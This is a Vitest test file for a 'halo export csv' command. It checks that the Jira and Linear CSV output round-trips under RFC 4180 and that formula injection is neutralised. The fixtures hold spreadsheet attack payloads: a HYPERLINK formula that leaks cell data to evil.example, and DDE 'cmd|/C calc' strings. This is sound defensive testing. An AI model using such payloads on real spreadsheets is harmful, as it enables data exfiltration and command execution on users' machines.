// `halo export csv`: files Jira's and Linear's CSV importers accept, read back
// with an independent RFC 4180 parser.
import { describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { exportFindings, toCsv } from '../src/export/index.ts';
import { finding, findingsFile, FP } from './helpers/findings-runs.ts';
import { halorunAsync } from './helpers/cli.ts';

/** RFC 4180: fields separated by commas, records by CRLF; quoted fields may hold commas, CRLF and doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), (i += 2);
      else if (c === '"') (quoted = false), i++;
      else (field += c), i++;
    } else if (c === '"') {
      if (field !== '') throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      i++;
    } else if (c === ',') (row.push(field), (field = ''), i++);
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (c === '\n' || c === '\r') throw new Error(`bare line break outside quotes at ${i}`);
    else (field += c), i++;
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || row.length) throw new Error('last record not terminated by CRLF');
  return rows;
}

function cli(args: string[], cwd: string): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return halorunAsync(cwd, args);
}

const tricky = findingsFile('run-csv', [
  finding('A', 12, 1, 'new', { title: 'Tool "search" fails, then retries', summary: 'Line one, with comma.\nLine two with "quotes".' }),
  finding('B', 3, 2),
  finding('C', 1, 3),
]);

describe('halo export csv', () => {
  it('Jira flavor (CLI): Summary, Description, Issue Type, Priority, repeated Labels; quoting round-trips', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'halo-export-csv-'));
    writeFileSync(join(dir, 'findings.json'), JSON.stringify(tricky));
    const r = await cli(['export', 'csv', '--findings', 'findings.json', '--out', 'out.csv', '--min-severity', 'high', '--label-map', 'critical=p0+urgent'], dir);
    expect(r.status, r.stderr).toBe(0);
    const rows = parseCsv(readFileSync(join(dir, 'out.csv'), 'utf8'));
    expect(rows[0]).toEqual(['Summary', 'Description', 'Issue Type', 'Priority', 'Labels', 'Labels', 'Labels', 'Labels']);
    expect(rows).toHaveLength(3);
    expect(rows.every((row) => row.length === rows[0]!.length)).toBe(true);
    const [, a, b] = rows;
    expect(a![0]).toBe('Tool "search" fails, then retries');
    expect(a![1]).toContain('Line one, with comma. Line two with "quotes".');
    expect(a![1]).toContain('h3. Evidence (10 of 12 traces)');
    expect(a![1]).toContain('* {{trace-A-0}}: “error in A #0”'.replace('#', '\\#'));
    expect(a!.slice(2)).toEqual(['Bug', 'Highest', 'halo', 'p0', 'urgent', `halo-${FP.A}`]);
    expect(b!.slice(2)).toEqual(['Bug', 'High', 'halo', `halo-${FP.B}`, '', '']);
  });

  it('Linear flavor: Title, Description, Priority, Labels, Status', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'halo-export-csv-'));
    const out = join(dir, 'linear.csv');
    const res = await exportFindings({ target: 'csv', file: tricky, csv: { out, flavor: 'linear' }, top: 2, labels: ['agent'] });
    expect(res.plan.map((p) => p.action)).toEqual(['create', 'create']);
    const rows = parseCsv(readFileSync(out, 'utf8'));
    expect(rows[0]).toEqual(['Title', 'Description', 'Priority', 'Labels', 'Status']);
    expect(rows).toHaveLength(3);
    expect(rows[1]![0]).toBe('Tool "search" fails, then retries');
    expect(rows[1]![1]).toMatch(/^Line one, with comma\.\nLine two with "quotes"\./);
    expect(rows[1]![1]).toContain(`<!-- halo:fingerprint=${FP.A} -->`);
    expect(rows[1]!.slice(2)).toEqual(['Urgent', 'halo,agent', 'Todo']);
    expect(rows[2]!.slice(2)).toEqual(['High', 'halo,agent', 'Todo']);
  });

  it('csv needs --out', async () => {
    await expect(exportFindings({ target: 'csv', file: tricky })).rejects.toThrow(/csv: pass --out/);
  });

  describe('formula injection (cells that Excel, LibreOffice or Sheets would evaluate)', () => {
    // Titles and summaries come from trace content, so an attacker who can get
    // text into a trace controls them. Each should come back as text: the
    // original with one leading quote, nothing else changed.
    const hostileTitles = {
      A: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
      B: "@SUM(1+1)*cmd|' /C calc'!A0",
      C: '-2+3',
      D: '\t=1+1 after a tab',
      E: '+33 612 345 678 retries',
    } as const;
    const hostile = findingsFile('run-hostile', [
      finding('A', 12, 1, 'new', { title: hostileTitles.A, summary: '=cmd|"/C calc"!A0 from the trace' }),
      finding('B', 9, 2, 'new', { title: hostileTitles.B, summary: '\r=1+1 after a carriage return' }),
      finding('C', 8, 3, 'new', { title: hostileTitles.C, summary: '\t@SUM(A1:A9) after a tab' }),
      finding('D', 7, 4, 'new', { title: hostileTitles.D }),
      finding('E', 6, 5, 'new', { title: hostileTitles.E }),
    ]);
    const formulaStart = /^[=+\-@\t\r]/;

    it('Jira flavor (CLI): hostile titles and summaries get a leading quote and are otherwise intact; labels and priority names untouched', async () => {
      const dir = mkdtempSync(join(tmpdir(), 'halo-export-csv-'));
      writeFileSync(join(dir, 'findings.json'), JSON.stringify(hostile));
      const r = await cli(['export', 'csv', '--findings', 'findings.json', '--out', 'out.csv', '--label-map', 'critical=-p0'], dir);
      expect(r.status, r.stderr).toBe(0);
      const rows = parseCsv(readFileSync(join(dir, 'out.csv'), 'utf8'));
      expect(rows).toHaveLength(6);
      const byTitle = rows.slice(1).map((row) => row[0]);
      expect(byTitle).toEqual([`'${hostileTitles.A}`, `'${hostileTitles.B}`, `'${hostileTitles.C}`, `'${hostileTitles.D}`, `'${hostileTitles.E}`]);
      // Every cell of every row, not just the title: nothing a spreadsheet would evaluate.
      for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(formulaStart);
      // Descriptions that started with the summary: guarded, text after the quote unchanged.
      // (Jira wiki turns the CR into a space; the space-led formula is guarded too.)
      expect(rows[2]![1]).toMatch(/^' =1\\\+1 after a carriage return/);
      expect(rows[3]![1]).toMatch(/^' @SUM\(A1:A9\) after a tab/);
      // Our own generated values: priority names, the issue type and the fingerprint label, as they were;
      // a user label that starts with "-" is guarded like any other text.
      expect(rows[1]!.slice(2)).toEqual(['Bug', 'Highest', 'halo', "'-p0", `halo-${FP.A}`]);
      expect(rows[3]!.slice(2)).toEqual(['Bug', 'Medium', 'halo', `halo-${FP.C}`, '']);
    });

    it('Linear flavor: descriptions guarded; numeric priorities stay numbers, ordinary text stays as written', async () => {
      const dir = mkdtempSync(join(tmpdir(), 'halo-export-csv-'));
      const out = join(dir, 'linear.csv');
      const ordinary = finding('A', 4, 6, 'recurring', { id: 'f-ordinary', fingerprint: 'fffffffffffffff6', title: 'Retry budget = 3 - exceeded @ checkout (+2 since last run)', summary: 'Plain summary, -1 and =2 inside the text.' });
      const file = findingsFile('run-hostile-linear', [...hostile.findings, ordinary]);
      await exportFindings({ target: 'csv', file, csv: { out, flavor: 'linear' }, priorityMap: { critical: 1, high: '2', medium: '-1', low: 'Low' } });
      const text = readFileSync(out, 'utf8');
      const rows = parseCsv(text);
      expect(rows[0]).toEqual(['Title', 'Description', 'Priority', 'Labels', 'Status']);
      // Every text cell; the Priority column holds numbers halo chose, checked below.
      for (const row of rows) for (const cell of [...row.slice(0, 2), ...row.slice(3)]) expect(cell, JSON.stringify(cell)).not.toMatch(formulaStart);
      expect(rows[1]![0]).toBe(`'${hostileTitles.A}`);
      // Markdown escapes a leading "=" itself ("\\="), which a spreadsheet reads as text: no quote needed.
      expect(rows[1]![1]).toMatch(/^\\=cmd\\\|"\/C calc"!A0 from the trace/);
      expect(rows[3]![1]).toMatch(/^'\t@\u200bSUM\(A1:A9\) after a tab/);
      // Priorities: numbers halo writes (from the map, given as numbers or as "2" on the command line) are bare numbers in the file.
      expect(rows.slice(1).map((r) => r[2])).toEqual(['1', '2', '-1', 'Low', '2', '1']);
      expect(text).toContain(',1,halo,Todo\r\n');
      expect(text).toContain(',-1,halo,Todo\r\n');
      // Ordinary text with =, -, @, + inside (not leading) is untouched.
      expect(rows[6]![0]).toBe('Retry budget = 3 - exceeded @ checkout (+2 since last run)');
      expect(rows[6]![1]).toMatch(/^Plain summary, -1 and =2 inside the text\./);
    });

    it('toCsv (public): text guarded, numbers written as numbers', () => {
      expect(toCsv([['=1+1', '-5', 'ok', 'a-b', ' =x', -5, 0, 2.5]])).toBe(`'=1+1,'-5,ok,a-b,' =x,-5,0,2.5\r\n`);
      expect(() => toCsv([[Number.NaN]])).toThrow(/cannot write NaN/);
    });
  });
});
